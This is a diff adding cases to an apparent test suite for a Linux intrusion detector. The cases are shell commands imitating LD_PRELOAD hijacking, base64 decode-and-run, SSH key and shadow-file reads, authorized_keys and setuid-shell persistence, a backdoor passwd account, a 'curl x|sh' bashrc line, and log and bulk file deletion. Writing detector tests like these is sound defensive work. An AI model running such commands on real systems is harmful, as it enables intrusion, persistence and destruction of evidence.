@@ -97,6 +97,10 @@ f=os.memfd_create("x",1);os.write(f,open("/bin/echo","rb").read());os.execve(f,[
 		{name: "preload", script: `cp /lib/x86_64-linux-gnu/libc.so.6 /tmp/evil.so; LD_PRELOAD=/tmp/evil.so /bin/true`, rules: []string{"preload-from-environment"}, least: medium},
 		{name: "mapped-library", script: `cp /lib/x86_64-linux-gnu/libc.so.6 /dev/shm/evil.so; LD_PRELOAD=/dev/shm/evil.so /bin/true`, opts: []option{runnableMemory},
 			rules: []string{"library-from-shared-memory"}, least: medium},
+		{name: "preload-opt", script: `mkdir -p /opt/l; cp /lib/x86_64-linux-gnu/libc.so.6 /opt/l/evil.so; LD_PRELOAD=/opt/l/evil.so /bin/true`, rules: []string{"preload-made-at-run-time"}, least: high},
+		{name: "library-path", script: `mkdir -p /opt/m; cp /lib/x86_64-linux-gnu/libc.so.6 /opt/m/; LD_LIBRARY_PATH=/opt/m /bin/true`, rules: []string{"library-path-of-an-intruder"}, least: medium},
+		{name: "decode-file", script: `echo ZWNobyBkZWNvZGVkLXJhbgo= | base64 -d > /tmp/f; sh /tmp/f`, rules: []string{"decode-and-run"}, least: medium},
+		{name: "decode-variable", script: `x=$(echo ZWNobyBkZWNvZGVkLXJhbgo= | base64 -d); echo "$x" | sh`, rules: []string{"decode-and-run"}, least: medium},
 		{name: "preload-file", script: `echo /tmp/evil.so > /etc/ld.so.preload`, rules: []string{"preload-for-all-programs"}, least: high},
 	}
 }
@@ -134,6 +138,8 @@ func credentials() []attackCase {
 	return []attackCase{
 		{name: "shadow", script: `cat /etc/shadow > /dev/null`, rules: []string{"password-file-read"}, least: medium},
 		{name: "ssh-key", script: `mkdir -p /root/.ssh; echo KEY > /root/.ssh/id_rsa; sleep 0.2; cat /root/.ssh/id_rsa`, rules: []string{"private-key-read"}, least: medium},
+		{name: "ssh-key-service", script: `mkdir -p /var/lib/app/.ssh; echo KEY > /var/lib/app/.ssh/id_rsa; sleep 0.3; cat /var/lib/app/.ssh/id_rsa`, rules: []string{"private-key-read"}, least: high},
+		{name: "ssh-key-srv", script: `mkdir -p /srv/keys; echo KEY > /srv/keys/id_ed25519; sleep 0.3; cat /srv/keys/id_ed25519`, rules: []string{"private-key-read"}, least: high},
 		{name: "cloud-key", script: `mkdir -p /root/.aws; echo x > /root/.aws/credentials; sleep 0.2; cat /root/.aws/credentials`, rules: []string{"cloud-credential-read"}, least: medium},
 		{name: "environ", script: `sleep 60 & cat /proc/1/environ > /dev/null; cat /proc/$!/environ | tr '\0' '\n' > /dev/null`, rules: []string{"environment-of-others-read"}, least: low},
 		{name: "process-memory", script: `sleep 60 & python3 -c 'import sys;open("/proc/%s/mem"%sys.argv[1],"rb")' $!`, opts: []option{privileged}, rules: []string{"process-memory-opened"}, least: medium},
@@ -147,9 +153,13 @@ func persistence() []attackCase {
 	return []attackCase{
 		{name: "cron", script: `mkdir -p /etc/cron.d; sleep 0.2; echo '* * * * * root /tmp/x' > /etc/cron.d/x`, rules: rules, least: medium},
 		{name: "authorized-keys", script: `mkdir -p /root/.ssh; sleep 0.2; echo ssh-rsa AAAA >> /root/.ssh/authorized_keys`, rules: rules, least: medium},
+		{name: "authorized-keys-at-once", script: `mkdir -p /root/.ssh; echo ssh-rsa AAAA >> /root/.ssh/authorized_keys; true`, rules: []string{"authorized-keys-written"}, least: high, by: "bash"},
+		{name: "authorized-keys-moved", script: `echo ssh-rsa AAAA > /tmp/k; mkdir -p /home/new/.ssh; mv /tmp/k /home/new/.ssh/authorized_keys`, rules: []string{"authorized-keys-written"}, least: high},
+		{name: "authorized-keys-service", script: `mkdir -p /var/lib/app/.ssh; echo ssh-rsa AAAA >> /var/lib/app/.ssh/authorized_keys`, rules: []string{"authorized-keys-written"}, least: high},
 		{name: "shell-profile", script: `echo 'curl x|sh' >> /root/.bashrc`, rules: rules, least: low},
 		{name: "unit", script: `mkdir -p /etc/systemd/system; echo '[Service]' > /etc/systemd/system/x.service`, rules: rules, least: medium},
 		{name: "set-uid", script: `cp /bin/bash /usr/bin/rootsh; chmod u+s /usr/bin/rootsh`, rules: rules, least: medium},
+		{name: "set-uid-home", script: `cp /bin/bash /home/r; chmod 4755 /home/r`, rules: []string{"setuid-bit-set"}, least: high},
 		{name: "account", script: `echo 'evil::0:0::/:/bin/sh' >> /etc/passwd`, rules: rules, least: medium},
 	}
 }
@@ -159,6 +169,7 @@ func hiding() []attackCase {
 		{name: "log-deletion", script: `mkdir -p /var/log; echo x > /var/log/auth.log; sleep 0.2; rm -f /var/log/auth.log; : > /var/log/wtmp`, rules: []string{"log-removed"}, least: low},
 		{name: "history", script: `touch /root/.bash_history; sleep 0.2; rm -f /root/.bash_history`, rules: []string{"history-removed"}, least: low},
 		{name: "bulk-deletion", script: `for d in a b c d e f; do mkdir -p /home/u/$d; for i in $(seq 60); do echo x > /home/u/$d/f$i.sql; done; done; sleep 0.3; rm -rf /home/u`, rules: []string{"bulk-deletion"}, least: medium},
+		{name: "bulk-one-folder", script: `mkdir -p /srv/share; for i in $(seq 600); do echo x > /srv/share/f$i; done; sleep 0.3; find /srv/share -type f -delete`, rules: []string{"bulk-deletion"}, least: medium},
 		{name: "bulk-encryption", script: `mkdir -p /srv/share; for i in $(seq 80); do echo x > /srv/share/f$i.docx; done; sleep 0.3; for f in /srv/share/*; do mv $f $f.locked; done`, rules: []string{"bulk-deletion"}, least: high},
 		{name: "link", script: `for i in $(seq 20); do ln -s /etc/shadow /tmp/s$i; ln /etc/passwd /tmp/p$i 2>/dev/null; sleep 0.2; done`, rules: []string{"link-to-sensitive-file"}, least: low},
 	}
